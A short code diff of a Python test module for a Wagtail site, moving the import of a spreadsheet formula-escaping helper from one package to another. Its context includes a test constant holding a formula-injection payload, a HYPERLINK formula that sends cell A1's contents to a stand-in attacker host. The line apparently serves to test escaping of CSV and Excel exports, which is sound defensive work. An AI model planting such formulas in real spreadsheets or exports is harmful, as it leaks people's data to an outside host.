@@ -18,7 +18,7 @@ from openpyxl import load_workbook
 from wagtail.admin.views.mixins import SpreadsheetExportMixin
 from wagtail.models import PageLogEntry, Workflow
 
-from marketplace.spreadsheets import escape_formula
+from core.spreadsheets import escape_formula
 from tests.factories import InitiativePageFactory, NeighbourhoodFactory
 
 FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"Klik")'
